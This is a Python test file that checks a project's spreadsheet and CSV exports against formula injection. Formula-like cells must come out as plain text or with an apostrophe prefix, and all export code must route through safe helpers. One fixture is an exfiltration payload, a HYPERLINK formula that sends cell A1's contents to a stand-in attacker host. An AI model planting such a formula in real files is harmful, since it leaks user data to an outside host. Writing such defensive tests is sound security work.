"""Exports never carry a live formula: text starting with = + - @ comes out as text (formula injection)."""

import io
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from zeroerror.core.sheets import export_workbook, safe_csv_row, workbook_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def reopened(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_it_writes_a_formula_like_title_as_the_text_typed():
    data = workbook_bytes(export_workbook("发文", ["标题", "金额"], [[HYPERLINK, -5], ["+1+1", 3], ["@SUM(A1)", 0],
                                                                    ["-2+3", 1], ["普通标题", 2]]))
    ws = reopened(data)
    assert [c.value for c in ws["A"]][1:] == [HYPERLINK, "+1+1", "@SUM(A1)", "-2+3", "普通标题"]
    assert {c.data_type for c in ws["A"][1:]} == {"s"}
    assert ws["B2"].value == -5 and ws["B2"].data_type == "n"  # numbers stay numbers
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and not re.search(r"<f[ >]", sheet_xml)  # no formula element anywhere


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe():
    assert safe_csv_row([HYPERLINK, "张三", 5, "-1", "@x"]) == ["'" + HYPERLINK, "张三", 5, "'-1", "'@x"]


def test_every_xlsx_export_in_the_tree_goes_through_the_one_helper():
    package = Path(__file__).resolve().parents[2] / "zeroerror"
    writers = [str(p.relative_to(package)) for p in package.rglob("*.py")
               if re.search(r"\bWorkbook\(", p.read_text()) or re.search(r"\bcsv\.writer\(", p.read_text())]
    assert sorted(writers) == ["core/sheets.py", "core/xlsx.py", "errors/finance_sheet.py", "finance/xlsx.py",
                               "meetings/views/dossier.py", "vehicles/printouts.py"]
    for builder in ("core/xlsx.py", "errors/finance_sheet.py", "finance/xlsx.py"):  # workbooks built by hand: every row through append_row
        source = (package / builder).read_text()
        assert "append_row(" in source and ".append(" not in source, builder
    vehicles = (package / "vehicles/printouts.py").read_text()  # sheets made by core.xlsx.add_table only
    assert "add_table(" in vehicles and ".append(" not in vehicles and not re.search(r"\bws\b", vehicles)
    dossier = (package / "meetings/views/dossier.py").read_text()
    assert dossier.count("writerow(") == dossier.count("safe_csv_row(")
